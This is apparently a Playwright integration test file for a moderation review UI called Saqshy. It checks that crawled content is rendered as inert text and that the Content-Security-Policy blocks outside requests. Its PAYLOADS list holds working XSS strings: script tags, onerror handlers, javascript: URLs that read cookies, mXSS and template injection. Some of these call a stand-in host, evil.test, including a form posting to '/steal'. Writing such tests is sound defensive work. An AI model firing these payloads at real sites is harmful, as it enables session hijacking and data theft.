"""Crawled content is hostile: XSS payloads are shown as text, never run, and never make the
browser contact any host but Saqshy."""

from __future__ import annotations

from typing import Any

import pytest

from saqshy.db.models import Role
from tests.review_ui.conftest import ARMED_ITEM, LiveServer, Seed

pytestmark = pytest.mark.integration

PAYLOADS = [
    "<script>window.__xss = 'script'; alert('script')</script>",
    "<img src=x onerror=\"window.__xss='onerror'; alert('onerror')\">",
    "<img src=\"https://evil.test/pixel.png\"> <img src=\"//evil.test/p2.png\">",
    "<a href=\"javascript:window.__xss='jsurl'\">click me</a> javascript:alert(document.cookie)",
    "<svg onload=\"window.__xss='svg'\"><script>window.__xss='svg-script'</script>"
    "<image href=\"https://evil.test/svg.png\"/></svg>",
    "<style>@import url(https://evil.test/x.css); body { background: url(https://evil.test/bg.png) }</style>",
    "<div style=\"background-image:url(https://evil.test/div.png)\">styled</div>",
    "<iframe src=\"https://evil.test/frame\"></iframe><object data=\"https://evil.test/o.swf\"></object>",
    "<link rel=stylesheet href=\"https://evil.test/l.css\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/\">",
    "<base href=\"https://evil.test/\"><form action=\"https://evil.test/steal\"><input name=a></form>",
    "\"><script>window.__xss='attr-break'</script><x a=\"",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='mxss'\">",
    "{{constructor.constructor('window.__xss=\"template\"')()}} ${alert(1)}",
]

# Runs before the page's own scripts (injected by the browser, not subject to the page's CSP): it
# records CSP violations and any script that sets the flags the payloads aim for.
RECORDER = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__violations.push(e.violatedDirective + ' ' + e.blockedURI);
});
"""


def _hostile_items() -> list[dict[str, Any]]:
    items = []
    for n, payload in enumerate(PAYLOADS):
        items.append(
            {
                "url": f"https://evil.test/post/{n}?q=\"><img src=x onerror=alert({n})>",
                "canonical_url": f"https://evil.test/post/{n}",
                "language": "en",
                "title": f"<b onmouseover=\"window.__xss='title'\">Title {n}</b>{payload[:80]}",
                "author": "<script>window.__xss='author'</script>",
                "text": f"Selling stuff, contact me. {payload} Payload number {n}.",
            }
        )
    return items


def _assert_clean(live_server: LiveServer, page: Any) -> None:
    assert page.evaluate("() => window.__xss") is None, "a payload's script ran"
    assert page.saqshy_dialogs == [], f"a dialog opened: {page.saqshy_dialogs}"
    assert live_server.foreign_requests(page) == [], "the browser contacted another host"
    assert page.evaluate("() => window.__violations") == [], "something tried to load or run and CSP blocked it"
    assert page.saqshy_errors == []


def test_payloads_are_inert(live_server: LiveServer, browser: Any, seed: Seed) -> None:
    first = seed.user(Role.VOLUNTEER)
    second = seed.user(Role.VOLUNTEER)
    officer = seed.user(Role.POLICE)
    items = _hostile_items()
    # Explanations whose spans cover the payloads themselves: highlighting must not turn them into HTML.
    spans = [{"text": "<script>", "weight": 0.9}, {"text": "onerror", "weight": 0.4}]
    seed.tasks(len(items), items=items, explanation=spans)

    seen_texts: list[str] = []
    for volunteer in (first, second):
        page = live_server.page(browser)
        page.add_init_script(RECORDER)
        live_server.sign_in(page, volunteer)
        for _ in range(len(items)):
            page.wait_for_selector("#item[data-task-id]:not([data-task-id=''])")
            text = page.locator("[data-testid=item-text]").inner_text()
            seen_texts.append(text)
            # Shown literally, as text; no element came out of it.
            assert page.locator(
                "#item script, #item img, #item iframe, #item object, #item svg, #item style, #item a, "
                "#item link, #item meta, #item base, #item form, #item math"
            ).count() == 0
            assert "http" in page.locator("[data-testid=item-url]").inner_text()
            if volunteer is first and len(seen_texts) == 1:
                # The deliberate "open original" action warns first; cancelling opens nothing.
                page.click("[data-testid=open-original]")
                page.wait_for_selector("[data-testid=open-original-confirm]")
                page.keyboard.press("Escape")
            before = page.get_attribute("#item", "data-task-id")
            page.wait_for_selector(ARMED_ITEM)
            page.keyboard.press("1")
            page.wait_for_function(
                "(b) => document.getElementById('item').dataset.taskId !== b", arg=before
            )
        page.wait_for_selector("[data-testid=queue-empty]")
        _assert_clean(live_server, page)
    joined = "\n".join(seen_texts)
    for payload in PAYLOADS:
        assert payload in joined, f"payload not shown literally: {payload[:60]}"

    # The police see the same content through the evidence bundle, equally inert.
    police = live_server.page(browser)
    police.add_init_script(RECORDER)
    live_server.sign_in(police, officer)
    police.wait_for_selector("[data-testid=cases] a[data-testid^=case-]")
    count = police.locator("[data-testid=cases] a[data-testid^=case-]").count()
    assert count == len(items)
    for index in range(count):
        police.goto("/#/police")
        police.wait_for_selector("[data-testid=cases] a[data-testid^=case-]")
        police.locator("[data-testid=cases] a[data-testid^=case-]").nth(index).click()
        police.wait_for_selector("[data-testid=item-text]")
        police.wait_for_selector("table.trail tbody tr:nth-child(2)")
        assert "Payload number" in police.locator("[data-testid=item-text]").inner_text()
        assert police.locator("main script, main img, main iframe, main style, main object").count() == 0
    _assert_clean(live_server, police)


def test_security_headers_in_browser(live_server: LiveServer, browser: Any) -> None:
    page = live_server.page(browser)
    response = page.goto("/")
    assert response is not None
    headers = response.headers
    assert "default-src 'self'" in headers["content-security-policy"]
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-content-type-options"] == "nosniff"
    page.wait_for_selector("[data-testid=login-form]")
    # Even an element created by script cannot fetch from another host: the policy blocks it.
    page.add_init_script(RECORDER)
    page.reload()
    page.wait_for_selector("[data-testid=login-form]")
    injected = page.evaluate(
        """() => { const i = new Image(); i.src = 'https://evil.test/x.png'; document.body.append(i); return true; }"""
    )
    assert injected
    page.wait_for_function("() => window.__violations.length > 0")
    assert "img-src https://evil.test/x.png" in page.evaluate("() => window.__violations")
    # Chromium reports the attempt as a request, then fails it without touching the network.
    page.wait_for_function("() => true")
    assert set(live_server.foreign_requests(page)) <= set(page.saqshy_failed)
